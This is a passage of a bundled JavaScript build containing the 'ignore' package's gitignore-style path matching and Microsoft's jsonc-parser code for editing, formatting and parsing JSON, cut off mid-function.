const isNotRelative = path => {
  const first = path.charCodeAt(0)

  if (first === SLASH_CODE) {
    return true
  }

  if (first !== DOT_CODE) {
    return false
  }

  // '.'
  if (path.length === 1) {
    return true
  }

  const second = path.charCodeAt(1)

  // './'
  if (second === SLASH_CODE) {
    return true
  }

  if (second !== DOT_CODE) {
    return false
  }

  // '..' or '../'
  return path.length === 2 || path.charCodeAt(2) === SLASH_CODE
}

checkPath.isNotRelative = isNotRelative

// On windows, the following function will be replaced
/* istanbul ignore next */
checkPath.convert = p => p


const convertPath = target =>
  isString(target) && checkPath.convert(target)


class Ignore {
  constructor ({
    ignorecase = true,
    ignoreCase = ignorecase,
    allowRelativePaths = false
  } = {}) {
    define(this, KEY_IGNORE, true)

    this._rules = new RuleManager(ignoreCase)
    this._strictPathCheck = !allowRelativePaths
    this._initCache()
  }

  _initCache () {
    // A cache for the result of `.ignores()`
    this._ignoreCache = Object.create(null)

    // A cache for the result of `.test()`
    this._testCache = Object.create(null)
  }

  add (pattern) {
    if (this._rules.add(pattern)) {
      // Some rules have just added to the ignore,
      //   making the behavior changed,
      //   so we need to re-initialize the result cache
      this._initCache()
    }

    return this
  }

  // legacy
  addPattern (pattern) {
    return this.add(pattern)
  }

  // @returns {TestResult}
  _test (originalPath, cache, path) {
    checkPath(
      path,
      originalPath,
      this._strictPathCheck
        ? throwError
        : RETURN_FALSE
    )

    return path
      ? this._t(path, cache)
      : {
        ignored: false,
        unignored: false
      }
  }

  checkIgnore (target) {
    // A Windows path is converted first, so that a directory given with a
    //   trailing separator, `\` or `/`, is told the same way
    const path = convertPath(target)

    // If the path does not end with a slash, `.ignores()` is much equivalent
    //   to `git check-ignore`
    if (!path || path.charCodeAt(path.length - 1) !== SLASH_CODE) {
      return this._test(target, this._testCache, path)
    }

    // Like `git check-ignore`: a directory excluded by itself or by an
    //   ancestor settles it, and only then is the literal 'abc/' matched
    //   against the rules (see `checkSourceOf`).
    const dir = this._t(path, this._testCache)

    if (dir.ignored) {
      return dir
    }

    const literal = this._rules.testLiteral(path)

    return literal.ignored || literal.unignored
      ? literal
      : dir
  }

  _t (
    // The path to be tested
    path,

    // The cache for the result of a certain checking
    cache
  ) {
    // Every cached result is an object, so one read both tells a hit and
    //   fetches it, where `in` and then a read hashed the path twice.
    const cached = cache[path]

    if (cached) {
      return cached
    }

    const parentPath = parentOf(path)

    // If the path contains a parent directory, check the parent first
    const parent = parentPath
      ? this._t(parentPath, cache)
      : UNDEFINED

    return cache[path] = parent && parent.ignored
      // > It is not possible to re-include a file if a parent directory of
      // >   that file is excluded.
      ? parent
      : this._rules.test(path, MODE_IGNORE)
  }

  ignores (path) {
    return this._test(path, this._ignoreCache, convertPath(path)).ignored
  }

  createFilter () {
    return path => !this.ignores(path)
  }

  filter (paths) {
    return makeArray(paths).filter(this.createFilter())
  }

  // @returns {TestResult}
  test (path) {
    return this._test(path, this._testCache, convertPath(path))
  }
}

const factory = options => new Ignore(options)

const isPathValid = path =>
  checkPath(convertPath(path), path, RETURN_FALSE)

/* istanbul ignore next */
const setupWindows = () => {
  /* eslint no-control-regex: "off" */
  const makePosix = str => /^\\\\\?\\/.test(str)
  || /["<>|\u0000-\u001F]+/u.test(str)
    ? str
    : str.replace(/\\/g, '/')

  checkPath.convert = makePosix

  // 'C:\\foo'     <- 'C:\\foo' has been converted to 'C:/'
  // 'd:\\foo'
  const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i
  checkPath.isNotRelative = path =>
    REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path)
    || isNotRelative(path)
}


// Windows
// --------------------------------------------------------------
/* istanbul ignore next */
if (
  // Detect `process` so that it can run in browsers.
  typeof process !== 'undefined'
  && process.platform === 'win32'
) {
  setupWindows()
}

// COMMONJS_EXPORTS ////////////////////////////////////////////////////////////

module.exports = factory

// Although it is an anti-pattern,
//   it is still widely misused by a lot of libraries in github
// Ref: https://github.com/search?q=ignore.default%28%29&type=code
factory.default = factory

module.exports.isPathValid = isPathValid

// For testing purposes
define(module.exports, Symbol.for('setupWindows'), setupWindows)


/***/ }),

/***/ 4807:
/***/ ((module, exports, __nccwpck_require__) => {

(function (factory) {
    if ( true && typeof module.exports === "object") {
        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
        if (v !== undefined) module.exports = v;
    }
    else if (typeof define === "function" && define.amd) {
        define(["require", "exports", "./format", "./parser"], factory);
    }
})(function () {
    /*---------------------------------------------------------------------------------------------
     *  Copyright (c) Microsoft Corporation. All rights reserved.
     *  Licensed under the MIT License. See License.txt in the project root for license information.
     *--------------------------------------------------------------------------------------------*/
    'use strict';
    Object.defineProperty(exports, "__esModule", ({ value: true }));
    exports.isWS = exports.applyEdit = exports.setProperty = exports.removeProperty = void 0;
    const format_1 = __nccwpck_require__(6612);
    const parser_1 = __nccwpck_require__(5152);
    function removeProperty(text, path, options) {
        return setProperty(text, path, void 0, options);
    }
    exports.removeProperty = removeProperty;
    function setProperty(text, originalPath, value, options) {
        const path = originalPath.slice();
        const errors = [];
        const root = (0, parser_1.parseTree)(text, errors);
        let parent = void 0;
        let lastSegment = void 0;
        while (path.length > 0) {
            lastSegment = path.pop();
            parent = (0, parser_1.findNodeAtLocation)(root, path);
            if (parent === void 0 && value !== void 0) {
                if (typeof lastSegment === 'string') {
                    value = { [lastSegment]: value };
                }
                else {
                    value = [value];
                }
            }
            else {
                break;
            }
        }
        if (!parent) {
            // empty document
            if (value === void 0) { // delete
                throw new Error('Can not delete in empty document');
            }
            return withFormatting(text, { offset: root ? root.offset : 0, length: root ? root.length : 0, content: JSON.stringify(value) }, options);
        }
        else if (parent.type === 'object' && typeof lastSegment === 'string' && Array.isArray(parent.children)) {
            const existing = (0, parser_1.findNodeAtLocation)(parent, [lastSegment]);
            if (existing !== void 0) {
                if (value === void 0) { // delete
                    if (!existing.parent) {
                        throw new Error('Malformed AST');
                    }
                    const propertyIndex = parent.children.indexOf(existing.parent);
                    let removeBegin;
                    let removeEnd = existing.parent.offset + existing.parent.length;
                    if (propertyIndex > 0) {
                        // remove the comma of the previous node
                        let previous = parent.children[propertyIndex - 1];
                        removeBegin = previous.offset + previous.length;
                    }
                    else {
                        removeBegin = parent.offset + 1;
                        if (parent.children.length > 1) {
                            // remove the comma of the next node
                            let next = parent.children[1];
                            removeEnd = next.offset;
                        }
                    }
                    return withFormatting(text, { offset: removeBegin, length: removeEnd - removeBegin, content: '' }, options);
                }
                else {
                    // set value of existing property
                    return withFormatting(text, { offset: existing.offset, length: existing.length, content: JSON.stringify(value) }, options);
                }
            }
            else {
                if (value === void 0) { // delete
                    return []; // property does not exist, nothing to do
                }
                const newProperty = `${JSON.stringify(lastSegment)}: ${JSON.stringify(value)}`;
                const index = options.getInsertionIndex ? options.getInsertionIndex(parent.children.map(p => p.children[0].value)) : parent.children.length;
                let edit;
                if (index > 0) {
                    let previous = parent.children[index - 1];
                    edit = { offset: previous.offset + previous.length, length: 0, content: ',' + newProperty };
                }
                else if (parent.children.length === 0) {
                    edit = { offset: parent.offset + 1, length: 0, content: newProperty };
                }
                else {
                    edit = { offset: parent.offset + 1, length: 0, content: newProperty + ',' };
                }
                return withFormatting(text, edit, options);
            }
        }
        else if (parent.type === 'array' && typeof lastSegment === 'number' && Array.isArray(parent.children)) {
            const insertIndex = lastSegment;
            if (insertIndex === -1) {
                // Insert
                const newProperty = `${JSON.stringify(value)}`;
                let edit;
                if (parent.children.length === 0) {
                    edit = { offset: parent.offset + 1, length: 0, content: newProperty };
                }
                else {
                    const previous = parent.children[parent.children.length - 1];
                    edit = { offset: previous.offset + previous.length, length: 0, content: ',' + newProperty };
                }
                return withFormatting(text, edit, options);
            }
            else if (value === void 0 && parent.children.length >= 0) {
                // Removal
                const removalIndex = lastSegment;
                const toRemove = parent.children[removalIndex];
                let edit;
                if (parent.children.length === 1) {
                    // only item
                    edit = { offset: parent.offset + 1, length: parent.length - 2, content: '' };
                }
                else if (parent.children.length - 1 === removalIndex) {
                    // last item
                    let previous = parent.children[removalIndex - 1];
                    let offset = previous.offset + previous.length;
                    let parentEndOffset = parent.offset + parent.length;
                    edit = { offset, length: parentEndOffset - 2 - offset, content: '' };
                }
                else {
                    edit = { offset: toRemove.offset, length: parent.children[removalIndex + 1].offset - toRemove.offset, content: '' };
                }
                return withFormatting(text, edit, options);
            }
            else if (value !== void 0) {
                let edit;
                const newProperty = `${JSON.stringify(value)}`;
                if (!options.isArrayInsertion && parent.children.length > lastSegment) {
                    const toModify = parent.children[lastSegment];
                    edit = { offset: toModify.offset, length: toModify.length, content: newProperty };
                }
                else if (parent.children.length === 0 || lastSegment === 0) {
                    edit = { offset: parent.offset + 1, length: 0, content: parent.children.length === 0 ? newProperty : newProperty + ',' };
                }
                else {
                    const index = lastSegment > parent.children.length ? parent.children.length : lastSegment;
                    const previous = parent.children[index - 1];
                    edit = { offset: previous.offset + previous.length, length: 0, content: ',' + newProperty };
                }
                return withFormatting(text, edit, options);
            }
            else {
                throw new Error(`Can not ${value === void 0 ? 'remove' : (options.isArrayInsertion ? 'insert' : 'modify')} Array index ${insertIndex} as length is not sufficient`);
            }
        }
        else {
            throw new Error(`Can not add ${typeof lastSegment !== 'number' ? 'index' : 'property'} to parent of type ${parent.type}`);
        }
    }
    exports.setProperty = setProperty;
    function withFormatting(text, edit, options) {
        if (!options.formattingOptions) {
            return [edit];
        }
        // apply the edit
        let newText = applyEdit(text, edit);
        // format the new text
        let begin = edit.offset;
        let end = edit.offset + edit.content.length;
        if (edit.length === 0 || edit.content.length === 0) { // insert or remove
            while (begin > 0 && !(0, format_1.isEOL)(newText, begin - 1)) {
                begin--;
            }
            while (end < newText.length && !(0, format_1.isEOL)(newText, end)) {
                end++;
            }
        }
        const edits = (0, format_1.format)(newText, { offset: begin, length: end - begin }, { ...options.formattingOptions, keepLines: false });
        // apply the formatting edits and track the begin and end offsets of the changes
        for (let i = edits.length - 1; i >= 0; i--) {
            const edit = edits[i];
            newText = applyEdit(newText, edit);
            begin = Math.min(begin, edit.offset);
            end = Math.max(end, edit.offset + edit.length);
            end += edit.content.length - edit.length;
        }
        // create a single edit with all changes
        const editLength = text.length - (newText.length - end) - begin;
        return [{ offset: begin, length: editLength, content: newText.substring(begin, end) }];
    }
    function applyEdit(text, edit) {
        return text.substring(0, edit.offset) + edit.content + text.substring(edit.offset + edit.length);
    }
    exports.applyEdit = applyEdit;
    function isWS(text, offset) {
        return '\r\n \t'.indexOf(text.charAt(offset)) !== -1;
    }
    exports.isWS = isWS;
});


/***/ }),

/***/ 6612:
/***/ ((module, exports, __nccwpck_require__) => {

(function (factory) {
    if ( true && typeof module.exports === "object") {
        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
        if (v !== undefined) module.exports = v;
    }
    else if (typeof define === "function" && define.amd) {
        define(["require", "exports", "./scanner", "./string-intern"], factory);
    }
})(function () {
    /*---------------------------------------------------------------------------------------------
     *  Copyright (c) Microsoft Corporation. All rights reserved.
     *  Licensed under the MIT License. See License.txt in the project root for license information.
     *--------------------------------------------------------------------------------------------*/
    'use strict';
    Object.defineProperty(exports, "__esModule", ({ value: true }));
    exports.isEOL = exports.format = void 0;
    const scanner_1 = __nccwpck_require__(8525);
    const string_intern_1 = __nccwpck_require__(4579);
    function format(documentText, range, options) {
        let initialIndentLevel;
        let formatText;
        let formatTextStart;
        let rangeStart;
        let rangeEnd;
        if (range) {
            rangeStart = range.offset;
            rangeEnd = rangeStart + range.length;
            formatTextStart = rangeStart;
            while (formatTextStart > 0 && !isEOL(documentText, formatTextStart - 1)) {
                formatTextStart--;
            }
            let endOffset = rangeEnd;
            while (endOffset < documentText.length && !isEOL(documentText, endOffset)) {
                endOffset++;
            }
            formatText = documentText.substring(formatTextStart, endOffset);
            initialIndentLevel = computeIndentLevel(formatText, options);
        }
        else {
            formatText = documentText;
            initialIndentLevel = 0;
            formatTextStart = 0;
            rangeStart = 0;
            rangeEnd = documentText.length;
        }
        const eol = getEOL(options, documentText);
        const eolFastPathSupported = string_intern_1.supportedEols.includes(eol);
        let numberLineBreaks = 0;
        let indentLevel = 0;
        let indentValue;
        if (options.insertSpaces) {
            indentValue = string_intern_1.cachedSpaces[options.tabSize || 4] ?? repeat(string_intern_1.cachedSpaces[1], options.tabSize || 4);
        }
        else {
            indentValue = '\t';
        }
        const indentType = indentValue === '\t' ? '\t' : ' ';
        let scanner = (0, scanner_1.createScanner)(formatText, false);
        let hasError = false;
        function newLinesAndIndent() {
            if (numberLineBreaks > 1) {
                return repeat(eol, numberLineBreaks) + repeat(indentValue, initialIndentLevel + indentLevel);
            }
            const amountOfSpaces = indentValue.length * (initialIndentLevel + indentLevel);
            if (!eolFastPathSupported || amountOfSpaces > string_intern_1.cachedBreakLinesWithSpaces[indentType][eol].length) {
                return eol + repeat(indentValue, initialIndentLevel + indentLevel);
            }
            if (amountOfSpaces <= 0) {
                return eol;
            }
            return string_intern_1.cachedBreakLinesWithSpaces[indentType][eol][amountOfSpaces];
        }
        function scanNext() {
            let token = scanner.scan();
            numberLineBreaks = 0;
            while (token === 15 /* SyntaxKind.Trivia */ || token === 14 /* SyntaxKind.LineBreakTrivia */) {
                if (token === 14 /* SyntaxKind.LineBreakTrivia */ && options.keepLines) {
                    numberLineBreaks += 1;
                }
                else if (token === 14 /* SyntaxKind.LineBreakTrivia */) {
                    numberLineBreaks = 1;
                }
                token = scanner.scan();
            }
            hasError = token === 16 /* SyntaxKind.Unknown */ || scanner.getTokenError() !== 0 /* ScanError.None */;
            return token;
        }
        const editOperations = [];
        function addEdit(text, startOffset, endOffset) {
            if (!hasError && (!range || (startOffset < rangeEnd && endOffset > rangeStart)) && documentText.substring(startOffset, endOffset) !== text) {
                editOperations.push({ offset: startOffset, length: endOffset - startOffset, content: text });
            }
        }
        let firstToken = scanNext();
        if (options.keepLines && numberLineBreaks > 0) {
            addEdit(repeat(eol, numberLineBreaks), 0, 0);
        }
        if (firstToken !== 17 /* SyntaxKind.EOF */) {
            let firstTokenStart = scanner.getTokenOffset() + formatTextStart;
            let initialIndent = (indentValue.length * initialIndentLevel < 20) && options.insertSpaces
                ? string_intern_1.cachedSpaces[indentValue.length * initialIndentLevel]
                : repeat(indentValue, initialIndentLevel);
            addEdit(initialIndent, formatTextStart, firstTokenStart);
        }
        while (firstToken !== 17 /* SyntaxKind.EOF */) {
            let firstTokenEnd = scanner.getTokenOffset() + scanner.getTokenLength() + formatTextStart;
            let secondToken = scanNext();
            let replaceContent = '';
            let needsLineBreak = false;
            while (numberLineBreaks === 0 && (secondToken === 12 /* SyntaxKind.LineCommentTrivia */ || secondToken === 13 /* SyntaxKind.BlockCommentTrivia */)) {
                let commentTokenStart = scanner.getTokenOffset() + formatTextStart;
                addEdit(string_intern_1.cachedSpaces[1], firstTokenEnd, commentTokenStart);
                firstTokenEnd = scanner.getTokenOffset() + scanner.getTokenLength() + formatTextStart;
                needsLineBreak = secondToken === 12 /* SyntaxKind.LineCommentTrivia */;
                replaceContent = needsLineBreak ? newLinesAndIndent() : '';
                secondToken = scanNext();
            }
            if (secondToken === 2 /* SyntaxKind.CloseBraceToken */) {
                if (firstToken !== 1 /* SyntaxKind.OpenBraceToken */) {
                    indentLevel--;
                }
                ;
                if (options.keepLines && numberLineBreaks > 0 || !options.keepLines && firstToken !== 1 /* SyntaxKind.OpenBraceToken */) {
                    replaceContent = newLinesAndIndent();
                }
                else if (options.keepLines) {
                    replaceContent = string_intern_1.cachedSpaces[1];
                }
            }
            else if (secondToken === 4 /* SyntaxKind.CloseBracketToken */) {
                if (firstToken !== 3 /* SyntaxKind.OpenBracketToken */) {
                    indentLevel--;
                }
                ;
                if (options.keepLines && numberLineBreaks > 0 || !options.keepLines && firstToken !== 3 /* SyntaxKind.OpenBracketToken */) {
                    replaceContent = newLinesAndIndent();
                }
                else if (options.keepLines) {
                    replaceContent = string_intern_1.cachedSpaces[1];
                }
            }
            else {
                switch (firstToken) {
                    case 3 /* SyntaxKind.OpenBracketToken */:
                    case 1 /* SyntaxKind.OpenBraceToken */:
                        indentLevel++;
                        if (options.keepLines && numberLineBreaks > 0 || !options.keepLines) {
                            replaceContent = newLinesAndIndent();
                        }
                        else {
                            replaceContent = string_intern_1.cachedSpaces[1];
                        }
                        break;
                    case 5 /* SyntaxKind.CommaToken */:
                        if (options.keepLines && numberLineBreaks > 0 || !options.keepLines) {
                            replaceContent = newLinesAndIndent();
                        }
                        else {
                            replaceContent = string_intern_1.cachedSpaces[1];
                        }
                        break;
                    case 12 /* SyntaxKind.LineCommentTrivia */:
                        replaceContent = newLinesAndIndent();
                        break;
                    case 13 /* SyntaxKind.BlockCommentTrivia */:
                        if (numberLineBreaks > 0) {
                            replaceContent = newLinesAndIndent();
                        }
                        else if (!needsLineBreak) {
                            replaceContent = string_intern_1.cachedSpaces[1];
                        }
                        break;
                    case 6 /* SyntaxKind.ColonToken */:
                        if (options.keepLines && numberLineBreaks > 0) {
                            replaceContent = newLinesAndIndent();
                        }
                        else if (!needsLineBreak) {
                            replaceContent = string_intern_1.cachedSpaces[1];
                        }
                        break;
                    case 10 /* SyntaxKind.StringLiteral */:
                        if (options.keepLines && numberLineBreaks > 0) {
                            replaceContent = newLinesAndIndent();
                        }
                        else if (secondToken === 6 /* SyntaxKind.ColonToken */ && !needsLineBreak) {
                            replaceContent = '';
                        }
                        break;
                    case 7 /* SyntaxKind.NullKeyword */:
                    case 8 /* SyntaxKind.TrueKeyword */:
                    case 9 /* SyntaxKind.FalseKeyword */:
                    case 11 /* SyntaxKind.NumericLiteral */:
                    case 2 /* SyntaxKind.CloseBraceToken */:
                    case 4 /* SyntaxKind.CloseBracketToken */:
                        if (options.keepLines && numberLineBreaks > 0) {
                            replaceContent = newLinesAndIndent();
                        }
                        else {
                            if ((secondToken === 12 /* SyntaxKind.LineCommentTrivia */ || secondToken === 13 /* SyntaxKind.BlockCommentTrivia */) && !needsLineBreak) {
                                replaceContent = string_intern_1.cachedSpaces[1];
                            }
                            else if (secondToken !== 5 /* SyntaxKind.CommaToken */ && secondToken !== 17 /* SyntaxKind.EOF */) {
                                hasError = true;
                            }
                        }
                        break;
                    case 16 /* SyntaxKind.Unknown */:
                        hasError = true;
                        break;
                }
                if (numberLineBreaks > 0 && (secondToken === 12 /* SyntaxKind.LineCommentTrivia */ || secondToken === 13 /* SyntaxKind.BlockCommentTrivia */)) {
                    replaceContent = newLinesAndIndent();
                }
            }
            if (secondToken === 17 /* SyntaxKind.EOF */) {
                if (options.keepLines && numberLineBreaks > 0) {
                    replaceContent = newLinesAndIndent();
                }
                else {
                    replaceContent = options.insertFinalNewline ? eol : '';
                }
            }
            const secondTokenStart = scanner.getTokenOffset() + formatTextStart;
            addEdit(replaceContent, firstTokenEnd, secondTokenStart);
            firstToken = secondToken;
        }
        return editOperations;
    }
    exports.format = format;
    function repeat(s, count) {
        let result = '';
        for (let i = 0; i < count; i++) {
            result += s;
        }
        return result;
    }
    function computeIndentLevel(content, options) {
        let i = 0;
        let nChars = 0;
        const tabSize = options.tabSize || 4;
        while (i < content.length) {
            let ch = content.charAt(i);
            if (ch === string_intern_1.cachedSpaces[1]) {
                nChars++;
            }
            else if (ch === '\t') {
                nChars += tabSize;
            }
            else {
                break;
            }
            i++;
        }
        return Math.floor(nChars / tabSize);
    }
    function getEOL(options, text) {
        for (let i = 0; i < text.length; i++) {
            const ch = text.charAt(i);
            if (ch === '\r') {
                if (i + 1 < text.length && text.charAt(i + 1) === '\n') {
                    return '\r\n';
                }
                return '\r';
            }
            else if (ch === '\n') {
                return '\n';
            }
        }
        return (options && options.eol) || '\n';
    }
    function isEOL(text, offset) {
        return '\r\n'.indexOf(text.charAt(offset)) !== -1;
    }
    exports.isEOL = isEOL;
});


/***/ }),

/***/ 5152:
/***/ ((module, exports, __nccwpck_require__) => {

(function (factory) {
    if ( true && typeof module.exports === "object") {
        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
        if (v !== undefined) module.exports = v;
    }
    else if (typeof define === "function" && define.amd) {
        define(["require", "exports", "./scanner"], factory);
    }
})(function () {
    /*---------------------------------------------------------------------------------------------
     *  Copyright (c) Microsoft Corporation. All rights reserved.
     *  Licensed under the MIT License. See License.txt in the project root for license information.
     *--------------------------------------------------------------------------------------------*/
    'use strict';
    Object.defineProperty(exports, "__esModule", ({ value: true }));
    exports.getNodeType = exports.stripComments = exports.visit = exports.findNodeAtOffset = exports.contains = exports.getNodeValue = exports.getNodePath = exports.findNodeAtLocation = exports.parseTree = exports.parse = exports.getLocation = void 0;
    const scanner_1 = __nccwpck_require__(8525);
    var ParseOptions;
    (function (ParseOptions) {
        ParseOptions.DEFAULT = {
            allowTrailingComma: false
        };
    })(ParseOptions || (ParseOptions = {}));
    /**
     * For a given offset, evaluate the location in the JSON document. Each segment in the location path is either a property name or an array index.
     */
    function getLocation(text, position) {
        const segments = []; // strings or numbers
        const earlyReturnException = new Object();
        let previousNode = undefined;
        const previousNodeInst = {
            value: {},
            offset: 0,
            length: 0,
            type: 'object',
            parent: undefined
        };
        let isAtPropertyKey = false;
        function setPreviousNode(value, offset, length, type) {
            previousNodeInst.value = value;
            previousNodeInst.offset = offset;
            previousNodeInst.length = length;
            previousNodeInst.type = type;
            previousNodeInst.colonOffset = undefined;
            previousNode = previousNodeInst;
        }
        try {
            visit(text, {
                onObjectBegin: (offset, length) => {
                    if (position <= offset) {
                        throw earlyReturnException;
                    }
                    previousNode = undefined;
                    isAtPropertyKey = position > offset;
                    segments.push(''); // push a placeholder (will be replaced)
                },
                onObjectProperty: (name, offset, length) => {
                    if (position < offset) {
                        throw earlyReturnException;
                    }
                    setPreviousNode(name, offset, length, 'property');
                    segments[segments.length - 1] = name;
                    if (position <= offset + length) {
                        throw earlyReturnException;
                    }
                },
                onObjectEnd: (offset, length) => {
                    if (position <= offset) {
                        throw earlyReturnException;
                    }
                    previousNode = undefined;
                    segments.pop();
                },
                onArrayBegin: (offset, length) => {
                    if (position <= offset) {
                        throw earlyReturnException;
                    }
                    previousNode = undefined;
                    segments.push(0);
                },
                onArrayEnd: (offset, length) => {
                    if (position <= offset) {
                        throw earlyReturnException;
                    }
                    previousNode = undefined;
                    segments.pop();
                },
                onLiteralValue: (value, offset, length) => {
                    if (position < offset) {
                        throw earlyReturnException;
                    }
                    setPreviousNode(value, offset, length, getNodeType(value));
                    if (position <= offset + length) {
                        throw earlyReturnException;
                    }
                },
                onSeparator: (sep, offset, length) => {
                    if (position <= offset) {
                        throw earlyReturnException;
                    }
                    if (sep === ':' && previousNode && previousNode.type === 'property') {
                        previousNode.colonOffset = offset;
                        isAtPropertyKey = false;
                        previousNode = undefined;
                    }
                    else if (sep === ',') {
                        const last = segments[segments.length - 1];
                        if (typeof last === 'number') {
                            segments[segments.length - 1] = last + 1;
                        }
                        else {
                            isAtPropertyKey = true;
                            segments[segments.length - 1] = '';
                        }
                        previousNode = undefined;
                    }
                }
            });
        }
        catch (e) {
            if (e !== earlyReturnException) {
                throw e;
            }
        }
        return {
            path: segments,
            previousNode,
            isAtPropertyKey,
            matches: (pattern) => {
                let k = 0;
                for (let i = 0; k < pattern.length && i < segments.length; i++) {
                    if (pattern[k] === segments[i] || pattern[k] === '*') {
                        k++;
                    }
                    else if (pattern[k] !== '**') {
                        return false;
                    }
                }
                return k === pattern.length;
            }
        };
    }
    exports.getLocation = getLocation;
    /**
     * Parses the given text and returns the object the JSON content represents. On invalid input, the parser tries to be as fault tolerant as possible, but still return a result.
     * Therefore always check the errors list to find out if the input was valid.
     */
    function parse(text, errors = [], options = ParseOptions.DEFAULT) {
        let currentProperty = null;
        let currentParent = [];
        const previousParents = [];
        function onValue(value) {
            if (Array.isArray(currentParent)) {
                currentParent.push(value);
            }
            else if (currentProperty !== null) {
                currentParent[currentProperty] = value;
            }
        }
        const visitor = {
            onObjectBegin: () => {
                const object = {};
                onValue(object);
                previousParents.push(currentParent);
                currentParent = object;
                currentProperty = null;
            },
            onObjectProperty: (name) => {
                currentProperty = name;
            },
            onObjectEnd: () => {
                currentParent = previousParents.pop();
            },
            onArrayBegin: () => {
                const array = [];
                onValue(array);
                previousParents.push(currentParent);
                currentParent = array;
                currentProperty = null;
            },
            onArrayEnd: () => {
                currentParent = previousParents.pop();
            },
            onLiteralValue: onValue,
            onError: (error, offset, length) => {
                errors.push({ error, offset, length });
            }
        };
        visit(text, visitor, options);
        return currentParent[0];
    }
    exports.parse = parse;
    /**
     * Parses the given text and returns a tree representation the JSON content. On invalid input, the parser tries to be as fault tolerant as possible, but still return a result.
     */
    function parseTree(text, errors = [], options = ParseOptions.DEFAULT) {
        let currentParent = { type: 'array', offset: -1, length: -1, children: [], parent: undefined }; // artificial root
        function ensurePropertyComplete(endOffset) {
            if (currentParent.type === 'property') {
                currentParent.length = endOffset - currentParent.offset;
                currentParent = currentParent.parent;
            }
        }
        function onValue(valueNode) {
            currentParent.children.push(valueNode);
            return valueNode;
        }
        const visitor = {
            onObjectBegin: (offset) => {
                currentParent = onValue({ type: 'object', offset, length: -1, parent: currentParent, children: [] });
            },
            onObjectProperty: (name, offset, length) => {
                currentParent = onValue({ type: 'property', offset, length: -1, parent: currentParent, children: [] });
                currentParent.children.push({ type: 'string', value: name, offset, length, parent: currentParent });
            },
            onObjectEnd: (offset, length) => {
                ensurePropertyComplete(offset + length); // in case of a missing value for a property: make sure property is complete
                currentParent.length = offset + length - currentParent.offset;
                currentParent = currentParent.parent;
                ensurePropertyComplete(offset + length);
            },
            onArrayBegin: (offset, length) => {
                currentParent = onValue({ type: 'array', offset, length: -1, parent: currentParent, children: [] });
            },
            onArrayEnd: (offset, length) => {
                currentParent.length = offset + length - currentParent.offset;
                currentParent = currentParent.parent;
                ensurePropertyComplete(offset + length);
            },
            onLiteralValue: (value, offset, length) => {
                onValue({ type: getNodeType(value), offset, length, parent: currentParent, value });
                ensurePropertyComplete(offset + length);
            },
            onSeparator: (sep, offset, length) => {
                if (currentParent.type === 'property') {
                    if (sep === ':') {
                        currentParent.colonOffset = offset;
                    }
                    else if (sep === ',') {
                        ensurePropertyComplete(offset);
                    }
                }
            },
            onError: (error, offset, length) => {
                errors.push({ error, offset, length });
            }
        };
        visit(text, visitor, options);
        const result = currentParent.children[0];
        if (result) {
            delete result.parent;
        }
        return result;
    }
    exports.parseTree = parseTree;
    /**
     * Finds the node at the given path in a JSON DOM.
     */
    function findNodeAtLocation(root, path) {
        if (!root) {
            return undefined;
        }
        let node = root;
        for (let segment of path) {
            if (typeof segment === 'string') {
                if (node.type !== 'object' || !Array.isArray(node.children)) {
                    return undefined;
                }
                let found = false;
                for (const propertyNode of node.children) {
                    if (Array.isArray(propertyNode.children) && propertyNode.children[0].value === segment && propertyNode.children.length === 2) {
                        node = propertyNode.children[1];
                        found = true;
                        break;
                    }
                }
                if (!found) {
                    return undefined;
                }
            }
            else {
                const index = segment;
                if (node.type !== 'array' || index < 0 || !Array.isArray(node.children) || index >= node.children.length) {
                    return undefined;
                }
                node = node.children[index];
            }
        }
        return node;
    }
    exports.findNodeAtLocation = findNodeAtLocation;
    /**
     * Gets the JSON path of the given JSON DOM node
     */
    function getNodePath(node) {
        if (!node.parent || !node.parent.children) {
            return [];
        }
        const path = getNodePath(node.parent);
        if (node.parent.type === 'property') {
            const key = node.parent.children[0].value;
            path.push(key);
        }
        else if (node.parent.type === 'array') {
            const index = node.parent.children.indexOf(node);
            if (index !== -1) {
                path.push(index);
            }
        }
        return path;
    }
    exports.getNodePath = getNodePath;
    /**
     * Evaluates the JavaScript object of the given JSON DOM node
     */
    function getNodeValue(node) {
        switch (node.type) {
            case 'array':
                return node.children.map(getNodeValue);
            case 'object':
                const obj = Object.create(null);
                for (let prop of node.children) {
                    const valueNode = prop.children[1];
                    if (valueNode) {
                        obj[prop.children[0].value] = getNodeValue(valueNode);
                    }
                }
                return obj;
            case 'null':
            case 'string':
            case 'number':
            case 'boolean':
                return node.value;
            default:
                return undefined;
        }
    }
    exports.getNodeValue = getNodeValue;
    function contains(node, offset, includeRightBound = false) {
        return (offset >= node.offset && offset < (node.offset + node.length)) || includeRightBound && (offset === (node.offset + node.length));
    }
    exports.contains = contains;
    /**
     * Finds the most inner node at the given offset. If includeRightBound is set, also finds nodes that end at the given offset.
     */
    function findNodeAtOffset(node, offset, includeRightBound = false) {
        if (contains(node, offset, includeRightBound)) {
            const children = node.children;
            if (Array.isArray(children)) {
                for (let i = 0; i < children.length && children[i].offset <= offset; i++) {
                    const item = findNodeAtOffset(children[i], offset, includeRightBound);
                    if (item) {
                        return item;
                    }
                }
            }
            return node;
        }
        return undefined;
    }
    exports.findNodeAtOffset = findNodeAtOffset;
    /**
     * Parses the given text and invokes the visitor functions for each object, array and literal reached.
     */
    function visit(text, visitor, options = ParseOptions.DEFAULT) {
        const _scanner = (0, scanner_1.createScanner)(text, false);
        // Important: Only pass copies of this to visitor functions to prevent accidental modification, and
        // to not affect visitor functions which stored a reference to a previous JSONPath
        const _jsonPath = [];
        // Depth of onXXXBegin() callbacks suppressed. onXXXEnd() decrements this if it isn't 0 already.
        // Callbacks are only called when this value is 0.
        let suppressedCallbacks = 0;
        function toNoArgVisit(visitFunction) {
            return visitFunction ? () => suppressedCallbacks === 0 && visitFunction(_scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter()) : () => true;
        }
        function toOneArgVisit(visitFunction) {
            return visitFunction ? (arg) => suppressedCallbacks === 0 && visitFunction(arg, _scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter()) : () => true;
        }
        function toOneArgVisitWithPath(visitFunction) {
